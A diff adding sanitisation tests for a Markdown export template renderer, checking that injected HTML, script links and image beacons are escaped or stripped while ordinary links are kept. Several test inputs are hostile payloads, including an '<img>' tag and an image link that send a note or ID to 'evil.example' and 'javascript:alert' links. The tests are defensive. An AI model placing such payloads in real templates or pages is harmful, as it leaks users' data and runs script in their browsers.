@@ -47,6 +47,58 @@ describe('compileTemplate', () => {
   });
 });
 
+describe('a template’s literal text, rendered (it may have come in a backup)', () => {
+  const render = (source: string, input: Partial<TemplateValues> = {}) => {
+    const result = compileTemplate(source);
+    if (!result.ok) throw new Error(result.error);
+    return result.template.render(with_(input));
+  };
+  const page = {
+    note: 'my note',
+    id: 'h1',
+    url: 'https://a.example/post',
+    pageTitle: 'A post',
+    recording: 'https://video.example/1',
+  };
+
+  it.each([
+    [
+      'raw HTML is escaped',
+      '<img src="https://evil.example/?id={{note}}">',
+      '\\<img src="https://evil.example/?id=my note">',
+    ],
+    ['a script link keeps its text only', '[click](javascript:alert({{id}}))', 'click'],
+    ['a link built on a variable that is not a URL', '[click]({{note}})', 'click'],
+    ['a relative link', '[mine](notes/{{id}}.md)', 'mine'],
+    ['a mailto link', '[write](mailto:x@example.com?body={{note}})', 'write'],
+    ['an image, even from the web (a beacon)', '![seen](https://evil.example/{{id}}.png)', 'seen'],
+    ['a reference definition to a script', '[a]\n\n[a]: javascript:alert(1)', '[a]'],
+    [
+      'marker characters typed into it (no value comes in through them)',
+      '{{note}} x\uE0000\uE001y',
+      'my note x0y',
+    ],
+  ])('%s', (_name, source, expected) => {
+    expect(render(source, page)).toBe(expected);
+  });
+
+  it.each([
+    ['a web link', '[source](https://example.com/{{id}})', '[source](https://example.com/h1)'],
+    ['a link to the page', '[{{pageTitle}}]({{url}})', '[A post](https://a.example/post)'],
+    ['a link to the recording', '[▶]({{recording}})', '[▶](https://video.example/1)'],
+    ['a wikilink', '[[{{pageTitle}}]]', '[[A post]]'],
+    ['emphasis and a quote', '> **{{note}}**', '> **my note**'],
+  ])('keeps %s', (_name, source, expected) => {
+    expect(render(source, page)).toBe(expected);
+  });
+
+  it('inserts values as they are: they are made safe by the export, once', () => {
+    expect(render('{{note}}', { note: 'a \\<b> [x](https://example.com)' })).toBe(
+      'a \\<b> [x](https://example.com)',
+    );
+  });
+});
+
 describe('the documented variables', () => {
   it('docs/export-format.md lists every variable, and no other', () => {
     const docs = readFileSync(join(__dirname, '../../../../docs/export-format.md'), 'utf8');
